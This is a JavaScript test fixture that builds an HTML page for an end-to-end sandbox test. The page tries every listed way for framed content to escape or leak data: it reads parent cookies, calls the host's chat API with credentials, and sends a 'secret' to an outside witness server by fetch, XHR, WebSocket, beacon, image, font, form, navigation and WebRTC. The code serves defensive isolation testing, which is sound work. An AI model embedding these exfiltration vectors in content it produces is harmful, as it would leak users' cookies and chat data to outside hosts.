// A page that tries every way out of its frame the record lists (ADR 0034
// §3), for e2e/tests/escape.test.mjs. It writes what each attempt did into
// #results; whether anything got out is decided by the witness server and
// by the browser's own request log, not by what the page believes.

export function escapePage({ out, udp, conch }) {
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>Every way out</title>
<style>
@font-face { font-family: leak; src: url(${out}/font.woff2); }
body { font-family: leak, sans-serif; background-image: url(${out}/background.png); }
</style>
<link rel="stylesheet" href="${out}/style.css">
</head><body>
<h1>Every way out</h1>
<img src="${out}/image.png" alt="">
<video src="${out}/video.mp4"></video>
<audio src="${out}/audio.mp3"></audio>
<form id="form" action="${out}/form" method="post"><input name="d" value="secret"></form>
<a id="out" href="${out}/link?d=secret">A link out</a>
<button id="again" type="button">Load again</button>
<pre id="results"></pre>
<script>
const OUT = ${JSON.stringify(out)};
const CONCH = ${JSON.stringify(conch)};
const results = {};
const note = (k, v) => { results[k] = v; document.getElementById("results").textContent = JSON.stringify(results, null, 1); };
const tryIt = (k, f) => { try { note(k, "no error: " + String(f()).slice(0, 60)); } catch (e) { note(k, "threw " + e.name); } };
const tryAsync = (k, f) => { try { Promise.resolve(f()).then((r) => note(k, "resolved: " + String(r).slice(0, 60)), (e) => note(k, "rejected " + e.name)); } catch (e) { note(k, "threw " + e.name); } };
// Cookies, storage, IndexedDB.
tryIt("cookie", () => document.cookie);
tryIt("localStorage", () => localStorage.setItem("k", "v"));
tryIt("sessionStorage", () => sessionStorage.setItem("k", "v"));
tryIt("indexedDB", () => { const r = indexedDB.open("db"); r.onsuccess = () => note("indexedDB opened", "yes"); r.onerror = () => note("indexedDB opened", "no"); return "asked"; });
tryIt("caches", () => caches.keys().then(() => note("caches opened", "yes"), () => note("caches opened", "no")));
// The page around it.
tryIt("parent.document", () => parent.document.title);
tryIt("top.document", () => top.document.cookie);
tryIt("parent.location.href", () => parent.location.href);
tryIt("frameElement", () => window.frameElement && window.frameElement.ownerDocument.cookie);
tryIt("opener", () => window.opener && window.opener.document);
// Requests to the API and outside.
tryAsync("fetch the API", () => fetch(CONCH + "/api/chats", { credentials: "include" }).then((r) => r.status));
tryAsync("fetch the API by path", () => fetch("/api/chats").then((r) => r.status));
tryAsync("fetch outside", () => fetch(OUT + "/fetch?d=secret", { mode: "no-cors" }).then((r) => r.type));
for (const [k, url] of [["xhr the API", CONCH + "/api/chats"], ["xhr outside", OUT + "/xhr?d=secret"]]) {
  tryIt(k, () => { const x = new XMLHttpRequest(); x.open("GET", url); x.onload = () => note(k + " loaded", x.status); x.onerror = () => note(k + " loaded", "no"); x.send(); return "sent"; });
}
tryIt("websocket", () => { const w = new WebSocket(OUT.replace("http", "ws") + "/ws?d=secret"); w.onopen = () => note("websocket open", "yes"); w.onerror = () => note("websocket open", "no"); return "made"; });
tryIt("eventsource the API", () => { const s = new EventSource(CONCH + "/api/chats/x/stream"); s.onopen = () => note("eventsource the API open", "yes"); s.onerror = () => { note("eventsource the API open", "no"); s.close(); }; return "made"; });
tryIt("eventsource outside", () => { const s = new EventSource(OUT + "/events?d=secret"); s.onopen = () => note("eventsource outside open", "yes"); s.onerror = () => { note("eventsource outside open", "no"); s.close(); }; return "made"; });
tryIt("sendBeacon", () => navigator.sendBeacon(OUT + "/beacon", "secret"));
// Ways out of the frame.
tryIt("top navigation", () => { top.location = OUT + "/top?d=secret"; return "set"; });
tryIt("window.open", () => window.open(OUT + "/popup?d=secret"));
tryIt("form submit", () => document.getElementById("form").submit());
tryIt("link to _top", () => { const a = document.createElement("a"); a.href = OUT + "/top-link"; a.target = "_top"; document.body.append(a); a.dispatchEvent(new MouseEvent("click")); return "clicked"; });
// Images, styles, fonts and media by script.
tryIt("image", () => { const i = new Image(); i.onerror = () => note("image loaded", "no"); i.onload = () => note("image loaded", "yes"); i.src = OUT + "/image2.png?d=secret"; return "made"; });
tryIt("stylesheet", () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = OUT + "/style2.css"; document.head.append(l); return "added"; });
tryIt("font", () => { const f = new FontFace("leak2", "url(" + OUT + "/font2.woff2)"); document.fonts.add(f); f.load().then(() => note("font loaded", "yes"), () => note("font loaded", "no")); return "added"; });
tryIt("media", () => { const v = document.createElement("video"); v.src = OUT + "/video2.mp4"; v.onerror = () => note("media loaded", "no"); document.body.append(v); v.load(); return "added"; });
// Resource hints.
for (const rel of ["dns-prefetch", "preconnect", "prefetch", "prerender"]) {
  tryIt(rel, () => { const l = document.createElement("link"); l.rel = rel; l.href = rel === "dns-prefetch" ? "//escape-test.localhost" : OUT + "/" + rel; document.head.append(l); return "added"; });
}
// WebRTC: ICE to a STUN server (UDP) and a TURN server (TCP).
tryIt("webrtc", () => {
  const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }, { urls: "turn:" + OUT.replace("http://", "") + "?transport=tcp", username: "u", credential: "p" }] });
  pc.createDataChannel("d");
  pc.onicecandidate = (e) => note("ice candidates", (results["ice candidates"] || 0) + (e.candidate ? 1 : 0));
  pc.createOffer().then((o) => pc.setLocalDescription(o)).then(() => note("webrtc offer", "set"), (e) => note("webrtc offer", "rejected " + e.name));
  return "made";
});
document.getElementById("again").addEventListener("click", () => location.reload());
setTimeout(() => note("done", true), 1500);
</script>
</body></html>
`;
}
